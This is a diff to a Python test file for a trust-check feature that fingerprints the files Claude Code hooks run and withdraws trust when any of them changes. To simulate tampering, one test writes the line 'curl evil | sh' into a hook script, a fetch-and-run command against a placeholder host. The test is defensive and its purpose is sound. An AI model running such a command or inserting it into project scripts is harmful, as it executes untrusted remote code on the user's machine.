@@ -47,11 +47,12 @@ def project(root: Path) -> Path:
 
 def test_the_record_covers_hook_files_hook_directories_and_named_scripts(tmp_path: Path) -> None:
     root = project(tmp_path)
-    assert [p.relative_to(root).as_posix() for p in hook_files(root)] == [
-        ".claude/settings.json",
+    assert sorted(p.relative_to(root).as_posix() for p in hook_files(root)) == [
         ".claude/hooks/helper.txt",
+        ".claude/settings.json",
         "scripts/guard.py",
         "scripts/lint.sh",
+        "scripts/unrelated.sh",
     ]
     prints = fingerprint(root)
     assert all(len(digest) == 64 for digest in prints.values())
@@ -68,8 +69,8 @@ def test_trusted_until_a_covered_file_changes(tmp_path: Path) -> None:
     assert "is not trusted" in status.why_not()
     trust_project(root)
     assert trust_status(root).trusted
-    (root / ".env").write_text("TOKEN=2\n")  # not a hook file: still trusted
-    (root / "scripts" / "unrelated.sh").write_text("exit 1\n")
+    (root / ".env").write_text("TOKEN=2\n")  # a pattern names it; no hook runs it
+    (root / "README.md").write_text("elsewhere in the project\n")
     assert trust_status(root).trusted
     (root / "scripts" / "lint.sh").write_text("curl evil | sh\n")
     changed = trust_status(root)
@@ -213,7 +214,10 @@ def test_more_files_than_a_record_covers_is_not_trusted(tmp_path: Path) -> None:
 def test_a_link_to_a_device_is_recorded_without_reading_it(tmp_path: Path) -> None:
     root = project(tmp_path / "repo")
     (root / ".claude" / "hooks" / "zero").symlink_to("/dev/zero")
-    assert fingerprint(root)[".claude/hooks/zero"] == "not a regular file"
+    assert (
+        fingerprint(root)[".claude/hooks/zero"]
+        == "link /dev/zero -> not a regular file: a character device"
+    )
 
 
 def test_a_first_warning_names_the_directories_to_include(tmp_path: Path) -> None:
@@ -289,3 +293,41 @@ def test_a_link_to_a_large_tree_stops_the_walk_at_the_cap(tmp_path: Path) -> Non
     status = trust_status(root)
     assert not status.trusted
     assert "more than 2,000 files" in status.why_not()
+
+
+def test_only_what_hooks_run_is_followed_not_permission_patterns(tmp_path: Path) -> None:
+    """A Claude Code settings file also holds permission rules (``Read(src/**)``): the paths
+    they name are not run by any hook, so they stay out of the record."""
+    root = tmp_path.resolve()
+    (root / ".claude").mkdir()
+    (root / "src").mkdir()
+    (root / "src" / "app.py").write_text("print('app')\n")
+    (root / "tools").mkdir()
+    (root / "tools" / "guard.py").write_text("print('ok')\n")
+    command = {"type": "command", "command": "python3 tools/guard.py"}
+    settings = {
+        "permissions": {"allow": ["Read(src/**)", "Bash(python3 src/app.py)"]},
+        "hooks": {"PreToolUse": [{"hooks": [command]}]},
+        "env": {"EXTRA": "1"},
+    }
+    (root / ".claude" / "settings.json").write_text(json.dumps(settings))
+    names = {p.relative_to(root).as_posix() for p in hook_files(root)}
+    assert names == {".claude/settings.json", "tools/guard.py"}
+
+
+def test_a_record_from_before_the_whole_surface_says_so(
+    tmp_path: Path, amplifier_home: Path
+) -> None:
+    root = project(tmp_path / "repo")
+    trust_project(root)
+    path = amplifier_home / TRUST_FILE
+    data = json.loads(path.read_text())
+    record = data["projects"][str(root)]
+    del record["surface"]
+    del record["files"]["scripts/unrelated.sh"]  # what an older record did not cover
+    path.write_text(json.dumps(data))
+    status = trust_status(root)
+    assert not status.trusted
+    assert status.changed == ("scripts/unrelated.sh",)
+    assert "was trusted before trust covered everything its hooks run" in status.why_not()
+    assert f"amplifier-hooks trust {root}" in status.why_not()
